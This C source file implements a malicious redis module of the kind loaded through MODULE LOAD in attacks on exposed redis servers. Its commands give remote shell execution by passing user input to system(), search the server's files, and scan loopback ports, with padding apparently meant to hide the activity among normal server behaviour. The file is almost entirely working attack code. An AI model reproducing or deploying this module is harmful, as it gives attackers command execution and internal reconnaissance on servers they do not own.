// SPDX-License-Identifier: GPL-2.0
/*
 * A shared object for redis' MODULE LOAD, as in the published attacks on open
 * redis servers. Its commands turn the server's own process:
 *
 *	TURN.SHELL COMMAND			runs a shell
 *	TURN.SEARCH DIRECTORY [PADDING]		looks through files, without any new process
 *	TURN.SCAN [FIRST LAST [PADDING]]	scans the ports of loopback, likewise
 *
 * PADDING: what any server does, so many times between two steps.
 *
 * The few symbols of redis' module interface are declared here: Debian ships no header for it.
 */
#include <stdlib.h>

#include "turned.h"

#define MODULE_API_VERSION 1
#define PORTS 1024

struct module_context;
struct module_string;

typedef int command_function(struct module_context *context, struct module_string **argv, int argc);

static int (*create_command)(struct module_context *context, const char *name,
			     command_function *run, const char *flags, int first, int last,
			     int step);
static int (*set_attributes)(struct module_context *context, const char *name, int version,
			     int api);
static int (*reply_integer)(struct module_context *context, long long value);
static const char *(*string_text)(const struct module_string *string, size_t *length);

static int shell(struct module_context *context, struct module_string **argv, int argc)
{
	return reply_integer(context, argc == 2 ? system(string_text(argv[1], NULL)) : -1);
}

static int number(struct module_string **argv, int argc, int i, int otherwise)
{
	return argc > i ? atoi(string_text(argv[i], NULL)) : otherwise;
}

static int search_command(struct module_context *context, struct module_string **argv, int argc)
{
	if (argc < 2)
		return reply_integer(context, -1);
	return reply_integer(context, turned_search(string_text(argv[1], NULL),
						    number(argv, argc, 2, 0)));
}

static int scan_command(struct module_context *context, struct module_string **argv, int argc)
{
	return reply_integer(context, turned_scan(number(argv, argc, 1, 1),
						  number(argv, argc, 2, PORTS),
						  number(argv, argc, 3, 0)));
}

/* Entry point, called by redis. */
int RedisModule_OnLoad(struct module_context *context, struct module_string **argv, int argc)
{
	/* The context begins with the function that finds all others. */
	int (*find)(const char *name, void *pointer) = *(int (**)(const char *, void *))context;

	(void)argv;
	(void)argc;
	find("RedisModule_CreateCommand", &create_command);
	find("RedisModule_SetModuleAttribs", &set_attributes);
	find("RedisModule_ReplyWithLongLong", &reply_integer);
	find("RedisModule_StringPtrLen", &string_text);
	set_attributes(context, "turn", 1, MODULE_API_VERSION);
	create_command(context, "turn.shell", shell, "", 0, 0, 0);
	create_command(context, "turn.search", search_command, "", 0, 0, 0);
	create_command(context, "turn.scan", scan_command, "", 0, 0, 0);
	return 0;
}
